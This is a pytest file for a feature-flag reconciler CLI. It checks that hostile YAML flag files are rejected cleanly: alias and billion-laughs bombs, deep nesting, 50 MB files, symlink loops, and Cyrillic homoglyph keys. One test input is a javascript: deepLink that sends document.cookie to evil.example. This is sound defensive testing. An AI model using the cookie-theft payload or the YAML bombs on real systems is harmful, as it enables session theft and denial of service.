"""Hostile flag files: one located finding each, exit 1, no call to LaunchDarkly, bounded
memory and time.

Each input is made in the test's directory (none of them is committed: some are 50 MB)
and given to the real CLI's ``plan``, in its own process, against an emulator that must
receive no request at all. The child's peak RSS is measured. The committed corpus under
``tests/data/invalid`` (its expectations checked by ``tests/acceptance``) goes through
``plan`` the same way, all at once.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from reconciler.emulator import Emulator, EmulatorConfig

from .support import REPO, Run, child_env, command, live_env, run

INVALID = REPO / "tests" / "data" / "invalid"
MAX_RSS_MB = 200
HEAD = "project: hostile\nflags:\n"
KEY_HINT = "a key starts with a letter or digit and holds only letters, digits, '.', '_' and '-'"


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[Path], None]  # writes the input under the given flags directory
    finding: str  # the one finding, "file:line:col: ...", file relative to the run's directory


def text(name: str, content: str | bytes) -> Callable[[Path], None]:
    def make(flags: Path) -> None:
        data = content.encode() if isinstance(content, str) else content
        (flags / name).write_bytes(data)

    return make


def fifty_megabytes(flags: Path) -> None:
    with (flags / "huge.yaml").open("w") as f:
        f.write(HEAD)
        line = "  # " + "x" * 96 + "\n"
        f.write(line * (50 * 1024 * 1024 // len(line)))


def symlink_loop(flags: Path) -> None:
    (flags / "loop").symlink_to(".", target_is_directory=True)  # a directory loop
    (flags / "self.yaml").symlink_to("self.yaml")  # a file that links to itself


def directory_named_like_a_file(flags: Path) -> None:
    (flags / "x.yaml").mkdir()
    (flags / "x.yaml" / "team.yaml").write_text(HEAD + "  - {key: -bad, name: Bad}\n")


def billion_laughs(flags: Path) -> None:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]")
    (flags / "laughs.yaml").write_text("\n".join(lines) + "\n" + HEAD)


CASES = [
    Hostile(
        "a 50 MB file",
        fifty_megabytes,
        r"flags/huge\.yaml:1:1: the file is 52,\d\d\d,\d\d\d bytes; flag files may be at most "
        r"10,485,760 bytes",
    ),
    Hostile(
        "10,000 levels of flow nesting",
        text("deep.yaml", HEAD[:-1] + " " + "[" * 10_000 + "]" * 10_000 + "\n"),
        "flags/deep.yaml:2:72: nesting is deeper than 64 levels",
    ),
    Hostile(
        "10,000 levels of block nesting",
        text("deep.yaml", HEAD + "- " * 10_000 + "x\n"),
        "flags/deep.yaml:3:129: nesting is deeper than 64 levels",
    ),
    Hostile(
        "100,001 aliases of one anchor",
        text("aliases.yaml", "v: &v x\n" + HEAD[:-1] + " [" + ", ".join(["*v"] * 100_001) + "]\n"),
        r"flags/aliases\.yaml:1:4: aliases expand to more than 100,000 values; "
        "this looks like an alias bomb",
    ),
    Hostile(
        "a billion laughs",
        billion_laughs,
        r"flags/laughs\.yaml:\d+:\d+: aliases expand to more than 100,000 values; "
        "this looks like an alias bomb",
    ),
    Hostile(
        "NUL bytes",
        text("nul.yaml", HEAD.encode() + b"  - key: a\x00\x00b\n    name: A\n"),
        r"flags/nul\.yaml:3:11: this is a binary file \(it contains NUL bytes\)",
    ),
    Hostile(
        "a symbolic link loop",
        symlink_loop,
        "flags/self.yaml:1:1: cannot read the file: Too many levels of symbolic links",
    ),
    Hostile(
        "a directory named x.yaml (searched, not read)",
        directory_named_like_a_file,
        rf"flags/x\.yaml/team\.yaml:3:11: flags\[0\]\.key: '-bad' is not a valid key: {KEY_HINT}",
    ),
    Hostile(
        "a Cyrillic 'е' in a flag key",
        text("key.yaml", HEAD + "  - key: checkout-r\u0435design\n    name: Checkout\n"),
        rf"flags/key\.yaml:3:10: flags\[0\]\.key: 'checkout-r\u0435design' is not a valid key: "
        rf"{KEY_HINT} \(character 11 is U\+0435 CYRILLIC SMALL LETTER IE, not ASCII\)",
    ),
    Hostile(
        "a Cyrillic 'е' in a field name",
        text(
            "field.yaml", HEAD + "  - key: checkout\n    name: Checkout\n    t\u0435mporary: no\n"
        ),
        r"flags/field\.yaml:5:5: flags\[0\]\.t\u0435mporary: unknown field 't\u0435mporary' "
        r"\(character 2 is U\+0435 CYRILLIC SMALL LETTER IE, not ASCII\); "
        r"did you mean 'temporary'\?",
    ),
    Hostile(
        "a key of 100,000 characters",
        text("long.yaml", HEAD + f"  - key: {'k' * 100_000}\n    name: Long\n"),
        r"flags/long\.yaml:3:10: flags\[0\]\.key: is 100,000 characters long; "
        "at most 256 are allowed",
    ),
    Hostile(
        "a name of 5,000,000 characters",
        text("long.yaml", HEAD + f"  - key: long\n    name: {'n' * 5_000_000}\n"),
        r"flags/long\.yaml:4:11: flags\[0\]\.name: is 5,000,000 characters long; "
        "at most 256 are allowed",
    ),
    Hostile(
        "a deepLink with a javascript: scheme",
        text(
            "js.yaml",
            HEAD + "  - key: a\n    name: A\n    links:\n"
            "      - deepLink: javascript:fetch('//evil.example/'+document.cookie)\n",
        ),
        r"flags/js\.yaml:6:19: flags\[0\]\.links\[0\]\.deepLink: .javascript:fetch.*. is not a "
        "valid URL: a link's deepLink must be an http:// or https:// URL",
    ),
    Hostile(
        "a deepLink without a scheme",
        text(
            "bare.yaml",
            HEAD + "  - key: a\n    name: A\n    links:\n      - deepLink: evil.example/login\n",
        ),
        r"flags/bare\.yaml:6:19: flags\[0\]\.links\[0\]\.deepLink: 'evil\.example/login' is not "
        "a valid URL: a link's deepLink must be an http:// or https:// URL",
    ),
    Hostile(
        "five million values in 10 MiB",
        text("wide.yaml", HEAD[:-1] + " [" + "0," * 5_000_000 + "0]\n"),
        r"flags/wide\.yaml:2:\d+: the file holds more than 1,000,000 values; "
        "split it into several flag files",
    ),
    Hostile(
        "a mapping of 600,000 keys",
        text(
            "keys.yaml",
            HEAD
            + "  - key: a\n    name: A\n    customProperties:\n"
            + "".join(f"      p{i}: 0\n" for i in range(600_000)),
        ),
        r"flags/keys\.yaml:\d+:\d+: the file holds more than 1,000,000 values; "
        "split it into several flag files",
    ),
]


@pytest.fixture(scope="module")
def emu() -> Iterator[Emulator]:
    with Emulator(EmulatorConfig(projects=("hostile",))) as emulator:
        yield emulator


def plan(emu: Emulator, cwd: Path, *paths: str, timeout: float = 60) -> Run:
    before = len(emu.request_log)
    result = run("plan", *paths, cwd=cwd, env=live_env(emu), timeout=timeout,
                 measure_memory=True)  # fmt: skip
    assert len(emu.request_log) == before, "the plan called LaunchDarkly"
    return result


def assert_one_finding(result: Run, finding: str) -> None:
    assert result.code == 1, result
    assert result.stdout == "", result
    assert "Traceback" not in result.stderr, result
    lines = result.stderr.splitlines()
    assert len(lines) == 2, result
    assert re.fullmatch(finding, lines[0]), f"{lines[0]!r} does not match {finding!r}"
    assert lines[1] == "1 problem(s) in the flag files: nothing was planned."
    assert result.peak_rss_mb < MAX_RSS_MB, f"{result.peak_rss_mb:.0f} MB"


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input_is_one_located_finding_with_no_call_and_bounded_memory(
    tmp_path: Path, emu: Emulator, case: Hostile
) -> None:
    flags = tmp_path / "flags"
    flags.mkdir()
    case.make(flags)
    result = plan(emu, tmp_path, "flags")
    assert_one_finding(result, case.finding)
    assert result.seconds < 30, result


def _without_file_permissions() -> list[str]:
    """A prefix that runs a command unable to read a file of mode 000, or [] if none is
    needed; skips the test where it cannot be done (root without setpriv)."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("root reads any file; dropping that needs util-linux's setpriv")
    return [setpriv, "--bounding-set=-dac_override,-dac_read_search", "--"]


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
def test_an_unreadable_file_is_one_located_finding(tmp_path: Path, emu: Emulator) -> None:
    prefix = _without_file_permissions()
    flags = tmp_path / "flags"
    flags.mkdir()
    (flags / "fine.yaml").write_text(HEAD + "  - {key: fine, name: Fine}\n")
    (flags / "locked.yaml").write_text(HEAD + "  - {key: locked, name: Locked}\n")
    (flags / "locked.yaml").chmod(0)
    for paths in (["flags"], ["flags/locked.yaml"]):
        completed = subprocess.run(
            [*prefix, *command("plan", *paths)],
            cwd=tmp_path,
            env=child_env(live_env(emu)),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        result = Run(completed.returncode, completed.stdout, completed.stderr, 0.0)
        assert_one_finding(
            result, r"flags/locked\.yaml:1:1: cannot read the file: Permission denied"
        )
    assert emu.request_log == []


@pytest.mark.skipif(not Path("/proc/self/mem").exists(), reason="Linux's /proc")
def test_a_file_that_fails_to_read_is_one_located_finding(tmp_path: Path, emu: Emulator) -> None:
    flags = tmp_path / "flags"
    flags.mkdir()
    (flags / "io.yaml").symlink_to("/proc/self/mem")  # a regular file whose read is EIO
    assert_one_finding(
        plan(emu, tmp_path, "flags"),
        r"flags/io\.yaml:1:1: cannot read the file: Input/output error",
    )


def test_a_directory_named_like_a_file_with_nothing_inside_is_one_clear_line(
    tmp_path: Path, emu: Emulator
) -> None:
    (tmp_path / "x.yaml").mkdir()
    result = plan(emu, tmp_path, "x.yaml")
    assert result.code == 1, result
    assert result.stderr == "Error: no *.yaml or *.yml files found in x.yaml\n"


def test_findings_of_a_file_full_of_wrong_values_are_capped(tmp_path: Path, emu: Emulator) -> None:
    # 300,000 values, each of the wrong type: each one a finding, once 4 KB of error apiece.
    flags = tmp_path / "flags"
    flags.mkdir()
    (flags / "wide.yaml").write_text(HEAD[:-1] + " [" + "0," * 299_999 + "0]\n")
    result = plan(emu, tmp_path, "flags")
    assert result.code == 1, result
    lines = result.stderr.splitlines()
    assert lines[0] == (
        "flags/wide.yaml:1:1: more than 1,000 problems in this file; "
        "the first 1,000 found are reported"
    )
    assert lines[1] == "flags/wide.yaml:2:9: flags[0]: expected a mapping, got a number"
    assert len(lines) == 1 + 1000 + 1
    assert lines[-1] == "1001 problem(s) in the flag files: nothing was planned."
    assert result.peak_rss_mb < 2 * MAX_RSS_MB, f"{result.peak_rss_mb:.0f} MB"


def test_the_whole_invalid_corpus_plans_to_located_findings_and_no_call(
    tmp_path: Path, emu: Emulator
) -> None:
    cases = [p for p in INVALID.iterdir() if p.suffix in (".yaml", ".yml") or p.is_dir()]
    assert len(cases) >= 60
    result = plan(emu, INVALID, ".")
    assert result.code == 1, result
    assert result.stdout == ""
    *findings, summary = result.stderr.splitlines()
    assert summary == f"{len(findings)} problem(s) in the flag files: nothing was planned."
    located = re.compile(r"[^:]+\.ya?ml:\d+:\d+: .+")
    assert [f for f in findings if not located.fullmatch(f)] == []
    assert {f.split(":")[0].split("/")[0] for f in findings} >= {p.name for p in cases}
    assert result.peak_rss_mb < MAX_RSS_MB


# A byte-order mark, CRLF line ends, 5,000 comment lines, CJK, an emoji, Hebrew, a tab
# escape, and the separators YAML 1.1 (libyaml) takes for line ends but editors, git and
# GitHub do not: NEL, LINE SEPARATOR and PARAGRAPH SEPARATOR.
VALID_IN_UNUSUAL_DRESS = (
    "\ufeff# yaml-language-server: $schema=../schema.json\r\n"
    + "# a comment line\r\n" * 5_000
    + "project: hostile\r\n"
    + "flags:\r\n"
    + "  - key: unicode\r\n"
    + '    name: "\u65b0\u3057\u3044 \U0001f680 \u05e9\u05dc\u05d5\u05dd \\t tab"\r\n'
    + '    description: "one\u2028two\u2029three\x85four"\r\n'
    + "    tags: [x, 'y']\r\n"
    + "  - {key: second, name: Second, temporary: %s}\r\n"
)


@pytest.mark.parametrize("temporary", ["false", "maybe"])
def test_valid_files_in_unusual_dress_pass_and_their_lines_stay_exact(
    tmp_path: Path, emu: Emulator, temporary: str
) -> None:
    flags = tmp_path / "flags"
    flags.mkdir()
    (flags / "dress.yaml").write_bytes((VALID_IN_UNUSUAL_DRESS % temporary).encode())
    result = run("validate", "flags", cwd=tmp_path)
    if temporary == "false":
        assert (result.code, result.stdout) == (0, "2 flags, 0 links in 1 file: valid\n"), result
    else:
        assert result.code == 1, result
        assert result.stdout.splitlines()[0] == (
            "flags/dress.yaml:5008:44: flags[1].temporary: expected true or false, got a string"
        )


# Anchors, aliases and merge keys used as people use them (shared fields, one tag list),
# and keys quoted both ways in block and flow style. A finding in a merged field is
# located where the field is written: under the anchor.
ANCHORS_AND_QUOTED_KEYS = """\
project: hostile
flags:
  # The first flag's fields are shared through an anchor and a merge key.
  - &shared
    key: base
    name: Base
    temporary: %(anchored)s
    tags: &tags [team-a, team-b]
  - <<: *shared
    key: inherited
    name: Inherited
  - <<: *shared
    key: overridden
    name: Overridden
    temporary: %(override)s
  - "key": quoted
    'name': "Quoted"
    "temporary": %(quoted)s
    "tags": *tags
  - {"key": flow-quoted, 'name': Flow, "temporary": %(flow)s}
"""


def test_anchors_merge_keys_and_quoted_keys_are_read_as_written_with_exact_lines(
    tmp_path: Path, emu: Emulator
) -> None:
    flags = tmp_path / "flags"
    flags.mkdir()
    dress = flags / "anchors.yaml"
    fine = {"anchored": "false", "override": "true", "quoted": "true", "flow": "false"}
    dress.write_text(ANCHORS_AND_QUOTED_KEYS % {key: "maybe" for key in fine})
    result = run("validate", "flags", cwd=tmp_path)
    assert result.code == 1, result
    assert result.stdout.splitlines() == [
        "flags/anchors.yaml:7:16: flags[0].temporary: expected true or false, got a string",
        "flags/anchors.yaml:7:16: flags[1].temporary: expected true or false, got a string",
        "flags/anchors.yaml:15:16: flags[2].temporary: expected true or false, got a string",
        "flags/anchors.yaml:18:18: flags[3].temporary: expected true or false, got a string",
        "flags/anchors.yaml:20:53: flags[4].temporary: expected true or false, got a string",
        "5 problems in 1 file",
    ]
    dress.write_text(ANCHORS_AND_QUOTED_KEYS % (fine | {"anchored": "maybe"}))
    result = run("validate", "flags", cwd=tmp_path)
    assert result.code == 1, result
    assert result.stdout.splitlines()[:-1] == [  # the override hides the merged value
        "flags/anchors.yaml:7:16: flags[0].temporary: expected true or false, got a string",
        "flags/anchors.yaml:7:16: flags[1].temporary: expected true or false, got a string",
    ], result

    dress.write_text(ANCHORS_AND_QUOTED_KEYS % fine)
    applied = run("apply", "flags", "--yes", cwd=tmp_path, env=live_env(emu))
    assert applied.code == 0, applied
    held = {f["key"]: f for f in emu.flags("hostile")}
    assert sorted(held) == ["base", "flow-quoted", "inherited", "overridden", "quoted"]
    seen = {key: (f["name"], f["temporary"], f["tags"]) for key, f in held.items()}
    assert seen == {
        "base": ("Base", False, ["team-a", "team-b"]),
        "inherited": ("Inherited", False, ["team-a", "team-b"]),
        "overridden": ("Overridden", True, ["team-a", "team-b"]),
        "quoted": ("Quoted", True, ["team-a", "team-b"]),
        "flow-quoted": ("Flow", False, []),
    }
